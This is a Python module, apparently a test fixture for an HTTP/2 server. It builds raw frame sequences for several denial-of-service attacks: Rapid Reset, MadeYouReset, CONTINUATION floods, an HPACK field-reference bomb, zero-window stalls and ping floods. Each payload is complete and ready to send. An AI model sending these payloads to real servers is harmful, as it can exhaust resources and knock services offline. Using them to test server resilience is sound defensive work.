"""What a hostile client of HTTP/2 says, byte for byte: each of these goes out at once, on a connection of its own."""
from __future__ import annotations

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW = b"\0\4\0\0\0\0"
STREAMS = 400
"""Of a flood: above what a client may have at once, and what it may reset."""
OPEN_STREAMS = 10
REFERENCES = 20_000
"""To one field of 4,000 bytes: 80 MB of fields in 24 KB."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def field(name: bytes, value: bytes) -> bytes:
    """Neither indexed nor compressed; both shorter than 127 bytes."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def head(path: bytes = b"/", method: bytes = b"GET") -> bytes:
    pairs = ((b":method", method), (b":scheme", b"http"), (b":path", path), (b":authority", b"localhost"))
    return b"".join(field(*pair) for pair in pairs)


def _beginning(settings: bytes = b"") -> bytes:
    return PREFACE + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, 1, 0)


def _streams(count: int) -> range:
    return range(1, 2 * count, 2)


def resets() -> bytes:
    """Rapid Reset, CVE-2023-44487."""
    block = head(b"/large")
    return _beginning() + b"".join(frame(HEADERS, END_HEADERS | END_STREAM, one, block)
                                   + frame(RST_STREAM, 0, one, b"\0\0\0\x08") for one in _streams(STREAMS))


def faults() -> bytes:
    """MadeYouReset, CVE-2025-8671: each stream is one that the other side has to reset."""
    block = head(b"/large")
    return _beginning() + b"".join(frame(HEADERS, END_HEADERS | END_STREAM, one, block)
                                   + frame(DATA, END_STREAM, one, b"x") for one in _streams(STREAMS))


def continuations() -> bytes:
    """CVE-2024-27316: a head that never ends."""
    piece = frame(CONTINUATION, 0, 1, field(b"x", b"y" * 100) * 100)
    return _beginning() + frame(HEADERS, END_STREAM, 1, head()) + piece * 100


def bombs() -> bytes:
    """CVE-2026-49975: a field in the table, and references to it; and no window for what is said of that."""
    kept = b"\x40\x01x" + b"\x7f" + b"\xa1\x1e" + b"v" * 4000
    block = head() + kept + b"\xbe" * 11_000
    more = b"\xbe" * 9_000
    return (_beginning(INITIAL_WINDOW) + frame(HEADERS, END_STREAM, 1, block)
            + frame(CONTINUATION, END_HEADERS, 1, more))


def windows() -> bytes:
    """Answers are asked for, and no room is given for any."""
    block = head(b"/large")
    return _beginning(INITIAL_WINDOW) + b"".join(frame(HEADERS, END_HEADERS | END_STREAM, one, block)
                                                 for one in _streams(OPEN_STREAMS))


def pings() -> bytes:
    return _beginning() + frame(PING, 0, 0, b"tidegate") * 5_000


ALL = {one.__name__: one() for one in (resets, faults, continuations, bombs, windows, pings)}
